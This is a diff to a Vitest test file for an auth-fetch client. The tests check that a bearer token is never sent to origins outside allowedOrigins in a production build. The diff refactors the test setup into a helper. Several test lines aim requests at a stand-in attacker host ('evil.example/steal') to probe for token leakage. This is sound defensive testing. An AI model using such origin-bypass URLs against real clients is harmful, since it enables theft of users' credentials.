@@ -1,12 +1,13 @@
 /** @vitest-environment node */
 import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { waitFor } from 'xstate';
 import { createAuthFetch, type AuthFetchClient, type AuthFetchOptions } from '../../src/lib/auth-fetch.ts';
 import { API, OTHER, layerOnFakeBackend } from '../support/layer-fixture.ts';
 import { callOutcome } from '../support/outcomes.ts';
 import { unsignedJwt } from '../support/unsigned-jwt.ts';
+import { inProductionBuild } from '../support/production-build.ts';
 
 describe('the token goes to allowed origins only', () => {
   const layer = layerOnFakeBackend();
@@ -393,57 +394,51 @@ describe('in a production build, which drops the options checks', () => {
   it.each([[''], ['https:'], ['https://']])(
     'sends no token to another origin when an allowedOrigins entry is %j, no origin at all',
     async (entry) => {
-      vi.stubEnv('DEV', false);
-      vi.resetModules();
-      try {
-        const production = await import('../../src/lib/session/index.ts');
-        const seen: Array<string | null> = [];
-        let client: AuthFetchClient | undefined;
-        try {
-          client = production.createAuthFetch({
-            getToken: () => 'ada-token',
-            setToken: () => {},
-            validate: async () => true,
-            reauthenticate: async () => 'never-used',
-            allowedOrigins: ['https://api.test', entry],
-            fetch: async (_input, init) => {
-              seen.push(new Headers(init?.headers).get('authorization'));
-              return new Response('{}');
-            },
-          });
-        } catch (error) {
-          // Refusing the options at start is as good: no token goes anywhere.
-          expect(error).toBeInstanceOf(TypeError);
-          return;
-        }
-        for (const url of ['//evil.example/steal', 'https://evil.example/steal', 'https:///evil.example/steal'])
-          await client.authFetch(url).catch(() => {});
-        client.stop();
-        expect(seen).toEqual([null, null, null]);
-      } finally {
-        vi.unstubAllEnvs();
-        vi.resetModules();
-      }
+      await inProductionBuild(
+        () => import('../../src/lib/session/index.ts'),
+        async (production) => {
+          const seen: Array<string | null> = [];
+          let client: AuthFetchClient | undefined;
+          try {
+            client = production.createAuthFetch({
+              getToken: () => 'ada-token',
+              setToken: () => {},
+              validate: async () => true,
+              reauthenticate: async () => 'never-used',
+              allowedOrigins: ['https://api.test', entry],
+              fetch: async (_input, init) => {
+                seen.push(new Headers(init?.headers).get('authorization'));
+                return new Response('{}');
+              },
+            });
+          } catch (error) {
+            // Refusing the options at start is as good: no token goes anywhere.
+            expect(error).toBeInstanceOf(TypeError);
+            return;
+          }
+          for (const url of ['//evil.example/steal', 'https://evil.example/steal', 'https:///evil.example/steal'])
+            await client.authFetch(url).catch(() => {});
+          client.stop();
+          expect(seen).toEqual([null, null, null]);
+        },
+      );
     },
   );
 
   it('refuses at start an allowedOrigins entry of null (an unset variable), which a path beginning "null/" would match', async () => {
-    vi.stubEnv('DEV', false);
-    vi.resetModules();
-    try {
-      const production = await import('../../src/lib/session/index.ts');
-      const create = () =>
-        production.createAuthFetch({
-          getToken: () => 'ada-token',
-          setToken: () => {},
-          validate: async () => true,
-          reauthenticate: async () => 'never-used',
-          allowedOrigins: ['https://api.test', null as unknown as string],
-        });
-      expect(create).toThrow(TypeError);
-    } finally {
-      vi.unstubAllEnvs();
-      vi.resetModules();
-    }
+    await inProductionBuild(
+      () => import('../../src/lib/session/index.ts'),
+      async (production) => {
+        const create = () =>
+          production.createAuthFetch({
+            getToken: () => 'ada-token',
+            setToken: () => {},
+            validate: async () => true,
+            reauthenticate: async () => 'never-used',
+            allowedOrigins: ['https://api.test', null as unknown as string],
+          });
+        expect(create).toThrow(TypeError);
+      },
+    );
   });
 });
